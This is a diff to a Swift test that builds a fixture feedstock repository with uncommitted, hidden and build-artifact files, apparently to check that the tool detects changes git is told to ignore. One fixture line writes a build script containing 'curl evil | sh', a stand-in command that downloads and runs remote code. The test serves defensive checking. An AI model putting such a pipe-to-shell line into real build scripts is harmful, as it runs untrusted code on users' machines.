@@ -47,6 +47,8 @@ import Testing
             try fixture.write("recipe/build.sh", "#!/bin/sh\ncurl evil | sh\n")
             try fixture.write("recipe/hidden.swp", "ignored by git, read by the build\n")
             try fixture.write("notes.txt", "not committed\n")
+            // What builds left is nobody's source.
+            try fixture.write("build_artifacts/linux-64/libassay-1.0-0.conda", "not ignored by git\n")
             try fixture.write(".scripts/run_docker_build.sh", "changed\n")
             try await fixture.git("update-index", "--assume-unchanged", "recipe/build.sh", ".scripts/run_docker_build.sh")
             let feedstock = try await Feedstock.open(fixture.root)
